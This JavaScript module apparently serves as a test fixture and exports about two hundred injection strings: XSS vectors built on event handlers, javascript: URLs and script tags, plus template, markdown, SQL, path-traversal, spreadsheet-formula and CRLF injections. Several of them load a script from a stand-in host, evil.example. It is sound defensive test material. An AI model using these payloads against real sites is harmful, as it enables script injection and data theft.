// Two hundred texts that want to be more than text. Each tries to set `window.hacked`, to bring in an element, or to
// break what is around it.

const RUN = "window.hacked=1";

const ELEMENTS = ["img src=x onerror", "svg onload", "video src=x onerror", "audio src=x onerror", "body onload", "iframe onload", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "object data=x onerror", "style onload", "link rel=stylesheet href=x onerror", "button autofocus onfocus", "a href=# onmouseover", "math onclick", "table onmouseenter", "template onload", "form onsubmit"];
const OPENINGS = ["", '">', "'>", "</textarea>", "</title>", "</script>", "-->"];
const ADDRESSES = ["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\u0001javascript:", "data:text/html,<script>", "vbscript:", "blob:", "view-source:javascript:", "//evil.example/"];
const TEMPLATES = ["${X}", "{{X}}", "{{constructor.constructor('X')()}}", "<%= X %>", "#{X}", "`${X}`", "[[X]]", "{%X%}", "@{X}", "$(X)"];
const MARKDOWN = ["[x](javascript:X)", "![x](https://evil.example/x.png)", "![x](x onerror=X)", "<javascript:X>", "[x]: javascript:X", "```html\n<script>X</script>\n```", "# <script>X</script>", "[x](data:text/html,<script>X</script>)", "<details open ontoggle=X>", "| a |\n|---|\n| <img src=x onerror=X> |"];
const WORDS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "null", "undefined", "NaN", "Infinity", "true", "-0", "1e999", "0x10", "../../etc/passwd", "..\\..\\x", "C:\\con", "%00", "%3Cscript%3E", "%s%n%x", "'; DROP TABLE users; --", '" OR 1=1 --', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-1+1", "\\", "\\u003cscript\\u003e", '{"$gt":""}', "[object Object]", "<!--", "]]>", "<![CDATA[", "<?xml?>", "&lt;script&gt;", "&#x3c;script&#x3e;", "\r\nSet-Cookie: x=1", "event: error\ndata: {}\n\n", "<mark>", "</b></td></tr></table>", "<sop-grid></sop-grid>"];
const SIGNS = ["\u202Eright to left\u202C", "\u2066\u2067\u2069", "\u200Bzero\u200Dwidth\uFEFF", "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}", "Z\u0351\u036B\u0343\u036A\u0302a\u0338\u0322l\u0335go\u0489", "\uFFFD\uFFFE", "\u2028line\u2029paragraph", "a\u0000b\u0001c", "\u001b[31mred", " ", "   two   spaces ", "\t", "\n\n\n", "x".repeat(5000), "W".repeat(300), "ﷺ".repeat(50), "ı İ ß ẞ ſ", "１２３", "ｊａｖａｓｃｒｉｐｔ：", "\u{E0041}\u{E0042}"];

/** All of them, each once. */
export const PAYLOADS = [
  ...new Set([
    ...OPENINGS.flatMap((opening) => ELEMENTS.slice(0, opening ? 12 : ELEMENTS.length).map((element) => `${opening}<${element}=${RUN}>`)),
    ...["<script>X</script>", "</script><script>X</script>", "<scr<script>ipt>X</script>", "<ScRiPt>X</sCrIpT>", "<script src=//evil.example/x.js></script>", "'-X-'", '"-X-"', "`-X-`", "';X//", '";X//', "\\';X//", "</style><script>X</script>", "<svg><script>X</script></svg>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:X>", "<iframe srcdoc='<script>X</script>'>", "<a href='javascript:X' autofocus>x</a>", "<form action=javascript:X><button>x</button></form>", "<noscript><p title='</noscript><img src=x onerror=X>'>", "<math><mtext><style><img src=x onerror=X></style></mtext></math>"].map((text) => text.replaceAll("X", RUN)),
    ...ADDRESSES.map((scheme) => `${scheme}${RUN}`),
    ...[...TEMPLATES, ...MARKDOWN].map((text) => text.replaceAll("X", RUN)),
    ...WORDS,
    ...SIGNS,
  ]),
];
